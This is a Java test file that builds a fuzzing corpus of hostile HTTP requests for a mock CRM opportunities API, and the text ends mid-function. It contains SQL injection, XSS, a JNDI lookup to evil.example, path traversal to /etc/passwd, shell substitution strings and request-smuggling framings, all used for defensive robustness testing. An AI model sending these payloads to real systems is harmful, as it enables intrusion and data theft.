package com.onautomate.opportunities.mockserver;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

/**
 * A few thousand requests a hostile or broken client could send, as raw bytes: framing
 * (Content-Length and chunked encoding wrong in every way, smuggling shapes, bad line endings),
 * encodings (bytes that are not UTF-8, other charsets, compressed bodies), huge and deep bodies,
 * long URLs and headers, methods, path tricks, and injection strings in every parameter: every
 * query parameter of the list, every path parameter, every body field of the three writes, and
 * the headers the server reads. Deterministic: the same corpus every run.
 */
final class HostileCorpus {

  /**
   * One request. {@code createTitle}: a create whose title is that exact string (a 200 must echo
   * it, so injected SQL or markup is stored as text, never run). {@code halfClose}: the client
   * half-closes its side after sending, so that a body shorter than announced ends; chunked
   * requests are sent as clients send them instead, with {@code Connection: close} and no
   * half-close (see {@code web.BodyPrefetchFilter} on Tomcat's flaw with that case).
   */
  record Case(String name, byte[] bytes, String createTitle, boolean halfClose) {

    Case(String name, byte[] bytes, String createTitle) {
      this(name, bytes, createTitle, true);
    }
  }

  static final String SALES = "/v1/pipelines/" + DemoData.PIPELINE_ID + "/opportunities";
  static final String RENEWALS = "/v1/pipelines/" + DemoData.DUPLICATES_PIPELINE_ID + "/opportunities";
  static final String DEMO = SALES + "/" + DemoData.OPPORTUNITY_ID;
  private static final String AUTH = "Authorization: Bearer " + DemoData.TOKEN + "\r\n";

  /** Strings that break naive SQL, LIKE patterns, templates, shells, logs, markup, parsers and Unicode handling. */
  static final List<String> INJECTIONS = List.of(
      "' OR '1'='1", "'; DROP TABLE opportunity; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)--",
      "Robert'); DROP TABLE contact;--", "%' --", "%", "_", "\\", "\\'", "' UNION SELECT id, token FROM api_token --",
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "{{7*7}}",
      "#{7*7}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "| cat /etc/passwd", "$(id)", "`id`",
      "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}", "\r\nX-Injected: 1", "\u0000", "a\u0000b", "\u202Eevil", "🚀 emoji 𝕏",
      "İstanbul ﬁ ß", "null", "true", "-1", "0", "1e309", "NaN", "0x10", "", " ", "x".repeat(300), "y".repeat(5000),
      "%00", "%25", "%2e%2e%2f", "\t\n", "'".repeat(100));

  private HostileCorpus() {
  }

  static List<Case> all() {
    List<Case> cases = new ArrayList<>();
    methodsOnPaths(cases);
    pathTricks(cases);
    injectionsInQueries(cases);
    injectionsInPaths(cases);
    injectionsInBodies(cases);
    injectionsInHeaders(cases);
    framing(cases);
    encodings(cases);
    hugeAndDeep(cases);
    longUrlsAndHeaders(cases);
    return cases;
  }

  private static void methodsOnPaths(List<Case> cases) {
    List<String> methods = List.of("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT",
        "PROPFIND", "MKCOL", "LOCK", "FOO", "get", "X-CUSTOM-METHOD", "M".repeat(300));
    List<String> paths = List.of(SALES, SALES + "/", DEMO, DEMO + "/status", RENEWALS + "/nope", "/", "/v1",
        "/v1/pipelines", "/error", "/docs", "/openapi.yaml", "/openapi.json", "/webjars/swagger-ui/swagger-ui.css",
        "/nothing/here", "/actuator/health", "/WEB-INF/web.xml", "/META-INF/MANIFEST.MF");
    for (String method : methods) {
      for (String path : paths) {
        boolean body = method.equals("POST") || method.equals("PUT") || method.equals("PATCH");
        cases.add(request(method + " " + path, method, path, AUTH + (body ? "Content-Type: application/json\r\n" : ""),
            body ? "{\"title\":\"m\",\"status\":\"open\",\"stageId\":\"" + DemoData.STAGE_NEW_ID
                + "\",\"email\":\"method@example.com\"}" : null));
      }
    }
  }

  private static void pathTricks(List<Case> cases) {
    List<String> paths = List.of("/v1/pipelines/../pipelines/" + DemoData.PIPELINE_ID + "/opportunities",
        "/v1/./pipelines/" + DemoData.PIPELINE_ID + "/opportunities", "//v1//pipelines//" + DemoData.PIPELINE_ID + "//opportunities",
        "/v1/pipelines/%2e%2e/opportunities", "/v1/pipelines/%2E%2E/%2E%2E/opportunities", "/v1/pipelines/x%2Fy/opportunities",
        "/v1/pipelines/x%5Cy/opportunities", "/v1/pipelines/x\\y/opportunities", SALES + ";jsessionid=ABC",
        "/v1/pipelines/" + DemoData.PIPELINE_ID + ";a=b/opportunities", "/V1/PIPELINES/" + DemoData.PIPELINE_ID + "/OPPORTUNITIES",
        DEMO + "/status/extra", "/v1/pipelines//opportunities", "/v1/pipelines/%00/opportunities",
        "/v1/pipelines/%20/opportunities", "/v1/pipelines/" + "p".repeat(3000) + "/opportunities",
        "/%2e%2e/%2e%2e/etc/passwd", "/..;/v1/pipelines", "/v1/pipelines/..;/..;/opportunities", "/~root", "/error/x",
        "/openapi.yaml/..", "/docs/../v1/pipelines/" + DemoData.PIPELINE_ID + "/opportunities", "/webjars/../../../etc/passwd",
        "/v1/pipelines/" + DemoData.PIPELINE_ID + "/opportunities%3Fpage=2", "/v1/pipelines/" + DemoData.PIPELINE_ID
            + "/opportunities?", "/v1/pipelines/" + DemoData.PIPELINE_ID + "/opportunities??page=1",
        "/v1/pipelines/" + DemoData.PIPELINE_ID + "/opportunities?&&&", "/v1/pipelines/" + DemoData.PIPELINE_ID
            + "/opportunities?page", "/v1/pipelines/" + DemoData.PIPELINE_ID + "/opportunities?=1",
        "/v1/pipelines/%F0%9F%9A%80/opportunities", "/v1/pipelines/%C0%AF/opportunities", "/v1/pipelines/%ED%A0%80/opportunities",
        "/v1/pipelines/%/opportunities", "/v1/pipelines/%zz/opportunities", "/v1/pipelines/" + DemoData.PIPELINE_ID
            + "/opportunities/" + DemoData.OPPORTUNITY_ID + "%00", "*", "http://evil.example" + SALES,
        "https://127.0.0.1" + DEMO, "evil.example:443", "/v1/pipelines/" + DemoData.PIPELINE_ID + "/opportunities#frag");
    for (String path : paths) {
      for (String method : List.of("GET", "DELETE", "OPTIONS")) {
        cases.add(request(method + " path " + path, method, path, AUTH, null));
      }
      cases.add(request("POST path " + path, "POST", path, AUTH + "Content-Type: application/json\r\n",
          "{\"title\":\"path trick\",\"status\":\"open\",\"stageId\":\"" + DemoData.STAGE_NEW_ID + "\",\"email\":\"pt@example.com\"}"));
    }
  }

  private static void injectionsInQueries(List<Case> cases) {
    List<String> parameters = List.of("page", "limit", "title", "stageId", "status", "monetaryValue", "assignedTo",
        "contactId", "email", "name", "phone", "tags", "companyName", "unknownParameter");
    for (String parameter : parameters) {
      for (String value : INJECTIONS) {
        String query = "?" + encode(parameter) + "=" + encode(value);
        cases.add(request("list " + parameter + "=" + shown(value), "GET", SALES + query, AUTH, null));
      }
      cases.add(request("list " + parameter + " twice", "GET", SALES + "?" + parameter + "=a&" + parameter + "=b", AUTH, null));
      cases.add(request("list " + parameter + " 100 times", "GET",
          SALES + "?" + (parameter + "=v&").repeat(100), AUTH, null));
    }
  }

  private static void injectionsInPaths(List<Case> cases) {
    for (String value : INJECTIONS) {
      String id = encodePath(value);
      cases.add(request("GET pipelineId " + shown(value), "GET", "/v1/pipelines/" + id + "/opportunities", AUTH, null));
      cases.add(request("GET opportunityId " + shown(value), "GET", SALES + "/" + id, AUTH, null));
      cases.add(request("DELETE opportunityId " + shown(value), "DELETE", SALES + "/" + id, AUTH, null));
      cases.add(request("PUT opportunityId " + shown(value), "PUT", SALES + "/" + id, AUTH + "Content-Type: application/json\r\n",
          "{\"title\":\"x\",\"status\":\"open\",\"stageId\":\"" + DemoData.STAGE_NEW_ID + "\",\"email\":\"p@example.com\"}"));
      cases.add(request("PUT status opportunityId " + shown(value), "PUT", SALES + "/" + id + "/status",
          AUTH + "Content-Type: application/json\r\n", "{\"status\":\"won\"}"));
      cases.add(request("POST pipelineId " + shown(value), "POST", "/v1/pipelines/" + id + "/opportunities",
          AUTH + "Content-Type: application/json\r\n", "{\"title\":\"x\",\"status\":\"open\",\"stageId\":\"s\",\"email\":\"p@example.com\"}"));
    }
  }

  private static void injectionsInBodies(List<Case> cases) {
    List<String> fields = List.of("title", "status", "stageId", "contactId", "email", "phone", "name", "companyName",
        "assignedTo", "source", "monetaryValue", "tags", "unknownField");
    int n = 0;
    for (String field : fields) {
      for (String value : INJECTIONS) {
        n++;
        Map<String, Object> body = createBody(n);
        body.put(field, field.equals("tags") ? List.of(value) : value);
        String json = json(body);
        String title = field.equals("title") ? value : (String) body.get("title");
        cases.add(new Case("create " + field + "=" + shown(value), bytes("POST", RENEWALS,
            AUTH + "Content-Type: application/json\r\n", json), title));
        cases.add(request("update " + field + "=" + shown(value), "PUT", RENEWALS + "/nope" + n,
            AUTH + "Content-Type: application/json\r\n", json));
        if (field.equals("status") || field.equals("stageId") || field.equals("unknownField")) {
          Map<String, Object> change = new LinkedHashMap<>(Map.of("status", "open"));
          change.put(field, value);
          cases.add(request("status change " + field + "=" + shown(value), "PUT", DEMO + "/status",
              AUTH + "Content-Type: application/json\r\n", json(change)));
        }
      }
      // Other JSON types where a string is expected, and strings where others are expected.
      for (String raw : List.of("123", "-0.0", "1e400", "true", "null", "{}", "[]", "[[[]]]", "{\"a\":{\"b\":1}}",
          "\"\"", "123456789012345678901234567890")) {
        n++;
        String json = json(createBody(n)).replaceFirst("\\{", "{\"" + field + "\":" + raw + ",");
        cases.add(new Case("create " + field + " as " + raw, bytes("POST", RENEWALS, AUTH
            + "Content-Type: application/json\r\n", json), null));
      }
    }
  }

  private static void injectionsInHeaders(List<Case> cases) {
    for (String value : INJECTIONS) {
      String safe = value.replace("\r", "").replace("\n", "").replace("\u0000", "");
      String latin = new String(safe.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
      cases.add(request("Authorization " + shown(value), "GET", SALES, "Authorization: Bearer " + latin + "\r\n", null));
      cases.add(request("Content-Type " + shown(value), "POST", RENEWALS, AUTH + "Content-Type: " + latin + "\r\n",
          json(createBody(0))));
      cases.add(request("Accept " + shown(value), "GET", DEMO, AUTH + "Accept: " + latin + "\r\n", null));
      cases.add(request("X-Forwarded-Host " + shown(value), "GET", SALES + "?limit=1", AUTH + "X-Forwarded-Host: " + latin
          + "\r\nForwarded: host=\"" + latin + "\"\r\n", null));
      cases.add(request("Host " + shown(value), "GET", SALES + "?limit=1", "Host: " + latin + "\r\n" + AUTH, null, false));
      cases.add(request("Prefer " + shown(value), "GET", DEMO, AUTH + "Prefer: " + latin + "\r\n", null));
    }
  }

  private static void framing(List<Case> cases) {
    String body = json(createBody(-1));
    String head = "POST " + RENEWALS + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + AUTH + "Content-Type: application/json\r\n";
    Map<String, String> raw = new LinkedHashMap<>();
    raw.put("Content-Length shorter than the body", head + "Content-Length: 5\r\n\r\n" + body);
    raw.put("Content-Length longer than the body", head + "Content-Length: " + (body.length() + 50) + "\r\n\r\n" + body);
    raw.put("Content-Length negative", head + "Content-Length: -5\r\n\r\n" + body);
    raw.put("Content-Length not a number", head + "Content-Length: ten\r\n\r\n" + body);
    raw.put("Content-Length with a plus", head + "Content-Length: +" + body.length() + "\r\n\r\n" + body);
    raw.put("Content-Length past 2^63", head + "Content-Length: 99999999999999999999999\r\n\r\n" + body);
    raw.put("Content-Length huge", head + "Content-Length: 9000000000\r\n\r\n" + body);
    raw.put("Content-Length twice, equal", head + "Content-Length: " + body.length() + "\r\nContent-Length: "
        + body.length() + "\r\n\r\n" + body);
    raw.put("Content-Length twice, different", head + "Content-Length: " + body.length() + "\r\nContent-Length: 3\r\n\r\n" + body);
    raw.put("Content-Length list", head + "Content-Length: " + body.length() + ", " + body.length() + "\r\n\r\n" + body);
    raw.put("Content-Length and chunked", head + "Content-Length: " + body.length()
        + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked(body));
    raw.put("chunked", head + "Transfer-Encoding: chunked\r\n\r\n" + chunked(body));
    raw.put("chunked, in one-byte chunks", head + "Transfer-Encoding: chunked\r\n\r\n" + chunkedBytewise(body));
    raw.put("chunked twice", head + "Transfer-Encoding: chunked, chunked\r\n\r\n" + chunked(body));
    raw.put("chunked then gzip", head + "Transfer-Encoding: chunked, gzip\r\n\r\n" + chunked(body));
    raw.put("gzip transfer coding", head + "Transfer-Encoding: gzip\r\n\r\n" + body);
    raw.put("identity transfer coding", head + "Transfer-Encoding: identity\r\n\r\n" + body);
    raw.put("unknown transfer coding", head + "Transfer-Encoding: foo\r\n\r\n" + body);
    raw.put("Transfer-Encoding with a space before the colon", head + "Transfer-Encoding : chunked\r\n\r\n" + chunked(body));
    raw.put("chunk size not hex", head + "Transfer-Encoding: chunked\r\n\r\nzz\r\n" + body + "\r\n0\r\n\r\n");
    raw.put("chunk size negative", head + "Transfer-Encoding: chunked\r\n\r\n-5\r\n" + body + "\r\n0\r\n\r\n");
    raw.put("chunk size huge", head + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + body + "\r\n0\r\n\r\n");
    raw.put("chunk size too small", head + "Transfer-Encoding: chunked\r\n\r\n5\r\n" + body + "\r\n0\r\n\r\n");
    raw.put("chunk without CRLF", head + "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(body.length()) + "\r\n" + body + "0\r\n\r\n");
    raw.put("no last chunk", head + "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(body.length()) + "\r\n" + body + "\r\n");
    raw.put("chunk extensions", head + "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(body.length())
        + ";name=value;x\r\n" + body + "\r\n0;end\r\n\r\n");
    raw.put("chunk extension huge", head + "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(body.length())
        + ";" + "e".repeat(20000) + "\r\n" + body + "\r\n0\r\n\r\n");
    raw.put("trailers", head + "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(body.length()) + "\r\n" + body
        + "\r\n0\r\nX-Trailer: 1\r\nContent-Length: 5\r\n\r\n");
    raw.put("bare LF line endings", head.replace("\r\n", "\n") + "Content-Length: " + body.length() + "\n\n" + body);
    raw.put("bare CR line endings", head.replace("\r\n", "\r") + "Content-Length: " + body.length() + "\r\r" + body);
    raw.put("obs-fold header", head + "X-Folded: a\r\n  b\r\nContent-Length: " + body.length() + "\r\n\r\n" + body);
    raw.put("header without colon", head + "NoColonHere\r\nContent-Length: " + body.length() + "\r\n\r\n" + body);
    raw.put("header name with a space", head + "Bad Name: x\r\nContent-Length: " + body.length() + "\r\n\r\n" + body);
    raw.put("empty header name", head + ": x\r\nContent-Length: " + body.length() + "\r\n\r\n" + body);
    raw.put("NUL in a header", head + "X-Nul: a\u0000b\r\nContent-Length: " + body.length() + "\r\n\r\n" + body);
    raw.put("no Host", "GET " + SALES + " HTTP/1.1\r\n" + AUTH + "\r\n");
    raw.put("two Hosts", "GET " + SALES + " HTTP/1.1\r\nHost: a\r\nHost: b\r\n" + AUTH + "\r\n");
    raw.put("HTTP/1.0", "GET " + SALES + " HTTP/1.0\r\n" + AUTH + "\r\n");
    raw.put("HTTP/1.0 keep-alive", "GET " + SALES + " HTTP/1.0\r\nConnection: keep-alive\r\n" + AUTH + "\r\n");
    raw.put("HTTP/0.9", "GET " + SALES + "\r\n");
    raw.put("HTTP/2.0 request line", "GET " + SALES + " HTTP/2.0\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("HTTP/1.2", "GET " + SALES + " HTTP/1.2\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("HTTP/9.9", "GET " + SALES + " HTTP/9.9\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("lower-case protocol", "GET " + SALES + " http/1.1\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    raw.put("tabs in the request line", "GET\t" + SALES + "\tHTTP/1.1\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("two spaces in the request line", "GET  " + SALES + "  HTTP/1.1\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("blank lines before the request", "\r\n\r\n\r\nGET " + SALES + " HTTP/1.1\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("only blank lines", "\r\n\r\n\r\n\r\n");
    raw.put("garbage", "\u0016\u0003\u0001\u0000\u00a5\u0001\u0000\u0000\u00a1\u0003\u0003");
    raw.put("TLS on plain HTTP", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003" + "r".repeat(32));
    raw.put("Expect: 100-continue", head + "Expect: 100-continue\r\nContent-Length: " + body.length() + "\r\n\r\n" + body);
    raw.put("Expect: unknown", head + "Expect: something-else\r\nContent-Length: " + body.length() + "\r\n\r\n" + body);
    raw.put("Upgrade h2c", "GET " + SALES + " HTTP/1.1\r\nHost: x\r\n" + AUTH
        + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n");
    raw.put("WebSocket upgrade", "GET " + SALES + " HTTP/1.1\r\nHost: x\r\n" + AUTH
        + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n");
    raw.put("smuggled request after a GET", "GET " + SALES + " HTTP/1.1\r\nHost: x\r\n" + AUTH
        + "Content-Length: 44\r\n\r\nGET /v1/pipelines/x/opportunities HTTP/1.1\r\n\r\n");
    raw.put("pipelined requests", ("GET " + DEMO + " HTTP/1.1\r\nHost: x\r\n" + AUTH + "\r\n").repeat(5));
    raw.put("pipelined garbage after a request", "GET " + DEMO + " HTTP/1.1\r\nHost: x\r\n" + AUTH + "\r\nNOT HTTP AT ALL\r\n\r\n");
    raw.put("request line only spaces", "   \r\n\r\n");
    raw.put("absolute-form with another host", "GET http://evil.example" + SALES + "?limit=1 HTTP/1.1\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.put("CONNECT authority-form", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n");
    raw.put("OPTIONS *", "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n");
    raw.put("chunked create, then a pipelined GET", head + "Transfer-Encoding: chunked\r\n\r\n" + chunked(body)
        + "GET " + DEMO + " HTTP/1.1\r\nHost: x\r\n" + AUTH + "\r\n");
    raw.forEach((name, request) -> cases.add(chunkedAsClientsSendIt("framing: " + name, request)));
  }

  private static void encodings(List<Case> cases) {
    String body = json(createBody(-2));
    for (Map.Entry<String, byte[]> bad : BadInputTest.NOT_UTF8.entrySet()) {
      for (String target : List.of(RENEWALS, DEMO, DEMO + "/status")) {
        byte[] json = concat(("{\"title\":\"a").getBytes(StandardCharsets.UTF_8), bad.getValue(),
            ("\",\"status\":\"open\",\"stageId\":\"" + DemoData.DUPLICATES_STAGE_1_ID + "\",\"email\":\"e@example.com\"}")
                .getBytes(StandardCharsets.UTF_8));
        String method = target.equals(RENEWALS) ? "POST" : "PUT";
        cases.add(new Case("not UTF-8 " + bad.getKey() + " in " + method + " " + target,
            bytes(method, target, AUTH + "Content-Type: application/json\r\n", json), null));
      }
    }
    for (String escape : List.of("%C0%AF", "%E0%80%AF", "%ED%A0%80", "%F4%90%80%80", "%E2%82", "%80", "%FF", "%zz", "%", "%4")) {
      cases.add(request("query escape " + escape, "GET", SALES + "?title=" + escape, AUTH, null));
      cases.add(request("query name escape " + escape, "GET", SALES + "?" + escape + "=1", AUTH, null));
      cases.add(request("POST query escape " + escape, "POST", RENEWALS + "?x=" + escape,
          AUTH + "Content-Type: application/json\r\n", body));
      cases.add(request("path escape " + escape, "DELETE", SALES + "/a" + escape, AUTH, null));
    }
    List<String> surrogateEscapes = List.of("\\ud800", "\\udfff", "a\\ud800b", "\\ud800\\ud800", "\\udbff\\u0041");
    for (String escape : surrogateEscapes) {
      cases.add(new Case("lone surrogate escape " + escape + " in title", bytes("POST", RENEWALS,
          AUTH + "Content-Type: application/json\r\n", body.replace("\"title\":\"", "\"title\":\"" + escape)), null));
      cases.add(new Case("lone surrogate escape " + escape + " in a field name", bytes("POST", RENEWALS,
          AUTH + "Content-Type: application/json\r\n", body.replace("{", "{\"" + escape + "\":1,")), null));
    }
    cases.add(new Case("UTF-16LE body", bytes("POST", RENEWALS, AUTH + "Content-Type: application/json\r\n",
        body.getBytes(StandardCharsets.UTF_16LE)), null));
    cases.add(new Case("UTF-16 body with BOM", bytes("POST", RENEWALS, AUTH + "Content-Type: application/json; charset=utf-16\r\n",
        body.getBytes(StandardCharsets.UTF_16)), null));
    cases.add(new Case("UTF-32 body", bytes("POST", RENEWALS, AUTH + "Content-Type: application/json\r\n",
        body.getBytes(java.nio.charset.Charset.forName("UTF-32BE"))), null));
    for (String type : List.of("application/json; charset=iso-8859-1", "application/json; charset=bogus",
        "application/json;;;", "application/*", "*/*", "text/json", "application/vnd.api+json", "application/json-patch+json",
        "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-16",
        "text/plain; charset=utf-8", "APPLICATION/JSON", "application/json; boundary=\"", "json", "")) {
      cases.add(new Case("Content-Type " + type, bytes("POST", RENEWALS, AUTH + "Content-Type: " + type + "\r\n", body),
          null));
    }
    cases.add(new Case("gzip-encoded body", bytes("POST", RENEWALS,
        AUTH + "Content-Type: application/json\r\nContent-Encoding: gzip\r\n", gzip(body)), null));
    cases.add(new Case("body claims gzip but is not", bytes("POST", RENEWALS,
        AUTH + "Content-Type: application/json\r\nContent-Encoding: gzip\r\n", body), null));
    cases.add(new Case("UTF-8 BOM", bytes("POST", RENEWALS, AUTH + "Content-Type: application/json\r\n",
        concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, body.getBytes(StandardCharsets.UTF_8))), null));
  }

  private static void hugeAndDeep(List<Case> cases) {
    String ct = AUTH + "Content-Type: application/json\r\n";
    String base = json(createBody(-3));
    cases.add(new Case("body of exactly 65536 bytes", bytes("POST", RENEWALS, ct, padTo(base, 65536)), null));
    cases.add(new Case("body of 65537 bytes", bytes("POST", RENEWALS, ct, padTo(base, 65537)), null));
    cases.add(new Case("body of 1 MiB", bytes("POST", RENEWALS, ct, padTo(base, 1 << 20)), null));
    cases.add(chunkedAsClientsSendIt("body of 1 MiB chunked", "POST " + RENEWALS + " HTTP/1.1\r\nHost: x\r\n" + ct
        + "Transfer-Encoding: chunked\r\n\r\n" + chunked(padTo(base, 1 << 20))));
    cases.add(new Case("GET with a 1 MiB body", bytes("GET", SALES, ct, padTo(base, 1 << 20)), null));
    cases.add(new Case("DELETE with a body", bytes("DELETE", SALES + "/nope", ct, base), null));
    cases.add(new Case("unknown path with a 100 KiB body", bytes("POST", "/nothing", ct, padTo(base, 100_000)), null));
    for (int depth : new int[] {100, 999, 1001, 5000, 30000}) {
      cases.add(new Case("arrays " + depth + " deep", bytes("POST", RENEWALS, ct,
          base.replace("\"title\":", "\"deep\":" + "[".repeat(depth) + "]".repeat(depth) + ",\"title\":")), null));
      cases.add(new Case("objects " + depth + " deep", bytes("POST", RENEWALS, ct,
          base.replace("\"title\":", "\"deep\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + ",\"title\":")), null));
      cases.add(new Case("unclosed arrays " + depth + " deep", bytes("POST", RENEWALS, ct, "[".repeat(depth)), null));
    }
    StringBuilder manyFields = new StringBuilder("{");
    for (int i = 0; i < 5000; i++) {
      manyFields.append("\"f").append(i).append("\":").append(i).append(',');
    }
    cases.add(new Case("5000 fields", bytes("POST", RENEWALS, ct, manyFields + base.substring(1)), null));
    cases.add(new Case("the same field 2000 times", bytes("POST", RENEWALS, ct,
        "{" + "\"title\":\"dup\",".repeat(2000) + base.substring(1)), null));
    cases.add(new Case("30000 tags", bytes("POST", RENEWALS, ct,
        base.replace("{", "{\"tags\":[" + "\"t\",".repeat(15000) + "\"t\"],")), null));
    cases.add(new Case("a 60000-character title", bytes("POST", RENEWALS, ct,
        base.replace("\"title\":\"", "\"title\":\"" + "t".repeat(60000))), null));
    cases.add(new Case("a 60000-character field name", bytes("POST", RENEWALS, ct,
        base.replace("{", "{\"" + "k".repeat(60000) + "\":1,")), null));
    for (String number : List.of("1e999999", "-1e999999", "123456789012345678901234567890.123456789", "0." + "0".repeat(5000) + "1",
        "9".repeat(10000), "1E-400")) {
      cases.add(new Case("monetaryValue " + shown(number), bytes("POST", RENEWALS, ct,
          base.replace("{", "{\"monetaryValue\":" + number + ",")), null));
    }
    cases.add(new Case("tags as a 60 KiB string", bytes("POST", RENEWALS, ct,
        base.replace("{", "{\"tags\":\"" + "s".repeat(60_000) + "\",")), null));
  }

  private static void longUrlsAndHeaders(List<Case> cases) {
    for (int length : new int[] {2_000, 8_000, 9_000, 16_000, 100_000}) {
      cases.add(request("URL of " + length, "GET", SALES + "?title=" + "u".repeat(length), AUTH, null));
      cases.add(request("path of " + length, "GET", SALES + "/" + "i".repeat(length), AUTH, null));
      cases.add(request("header of " + length, "GET", DEMO, AUTH + "X-Long: " + "h".repeat(length) + "\r\n", null));
      cases.add(request("token of " + length, "GET", DEMO, "Authorization: Bearer " + "t".repeat(length) + "\r\n", null));
      cases.add(request("header name of " + length, "GET", DEMO, AUTH + "X-" + "n".repeat(length) + ": 1\r\n", null));
    }
    for (int count : new int[] {50, 99, 100, 101, 200, 1000}) {
      cases.add(request(count + " headers", "GET", DEMO, AUTH + "X-Many: 1\r\n".repeat(count), null));
      cases.add(request(count + " Authorization headers", "GET", DEMO, AUTH.repeat(count), null));
    }
    cases.add(request("5000 query parameters", "GET", SALES + "?" + "a=1&".repeat(5000), AUTH, null));
    cases.add(request("20000 tags", "GET", SALES + "?" + "tags=t&".repeat(2000), AUTH, null));
    cases.add(request("cookie of 7000", "GET", DEMO, AUTH + "Cookie: " + "c=1; ".repeat(1000) + "\r\n", null));
  }

  // --- building requests

  /** A request with a Transfer-Encoding is sent with {@code Connection: close} and not half-closed (see {@link Case}). */
  private static Case chunkedAsClientsSendIt(String name, String request) {
    boolean chunked = request.toLowerCase(java.util.Locale.ROOT).contains("transfer-encoding");
    String sent = chunked ? request.replaceFirst("\r\n", "\r\nConnection: close\r\n") : request;
    return new Case(name, sent.getBytes(StandardCharsets.ISO_8859_1), null, !chunked);
  }

  private static Case request(String name, String method, String target, String headers, String body) {
    return request(name, method, target, headers, body, true);
  }

  private static Case request(String name, String method, String target, String headers, String body, boolean host) {
    String head = method + " " + target + " HTTP/1.1\r\n" + (host ? "Host: 127.0.0.1\r\n" : "") + headers;
    byte[] bytes = body == null ? (head + "\r\n").getBytes(StandardCharsets.UTF_8)
        : bytes(head, body.getBytes(StandardCharsets.UTF_8));
    return new Case(name, bytes, null);
  }

  private static byte[] bytes(String method, String target, String headers, String body) {
    return bytes(method, target, headers, body.getBytes(StandardCharsets.UTF_8));
  }

  private static byte[] bytes(String method, String target, String headers, byte[] body) {
    return bytes(method + " " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + headers, body);
  }

  private static byte[] bytes(String head, byte[] body) {
    return concat((head + "Content-Length: " + body.length + "\r\n\r\n").getBytes(StandardCharsets.UTF_8), body);
  }

  private static Map<String, Object> createBody(int n) {
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("title", "hostile " + n);
    body.put("status", "open");
    body.put("stageId", DemoData.DUPLICATES_STAGE_1_ID);
    body.put("email", "hostile" + n + "@example.com");
    return body;
  }

  static String json(Map<String, ?> body) {
    StringBuilder out = new StringBuilder("{");
    body.forEach((key, value) -> {
      if (out.length() > 1) {
        out.append(',');
      }
      out.append(quote(key)).append(':');
      if (value instanceof List<?> list) {
        out.append('[');
        for (int i = 0; i < list.size(); i++) {
          out.append(i == 0 ? "" : ",").append(quote(String.valueOf(list.get(i))));
        }
        out.append(']');
      } else {
        out.append(quote(String.valueOf(value)));
      }
    });
    return out.append('}').toString();
  }

  private static String quote(String text) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : text.toCharArray()) {
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.append('"').toString();
  }

  private static String encode(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static String encodePath(String text) {
    return encode(text).replace("+", "%20");
  }

  private static String shown(String text) {
    String printable = text.replaceAll("\\p{Cntrl}", "?");
    return printable.length() > 40 ? printable.substring(0, 40) + "...(" + text.length() + ")" : printable;
  }

  private static String chunked(String body) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < body.length(); i += 4096) {
      String chunk = body.substring(i, Math.min(body.length(), i + 4096));
      out.append(Integer.toHexString(chunk.getBytes(StandardCharsets.UTF_8).length)).append("\r\n").append(chunk).append("\r\n");
    }
    return out.append("0\r\n\r\n").toString();
  }

  private static String chunkedBytewise(String body) {
    StringBuilder out = new StringBuilder();
    for (char c : body.toCharArray()) {
      out.append("1\r\n").append(c).append("\r\n");
    }
    return out.append("0\r\n\r\n").toString();
  }

  private static String padTo(String json, int size) {
    String prefix = "{\"padding\":\"";
    String rest = "\"," + json.substring(1);
    return prefix + "p".repeat(Math.max(0, size - prefix.length() - rest.length())) + rest;
  }

  private static byte[] gzip(String text) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
    return out.toByteArray();
  }

  private static byte[] concat(byte[]... parts) {
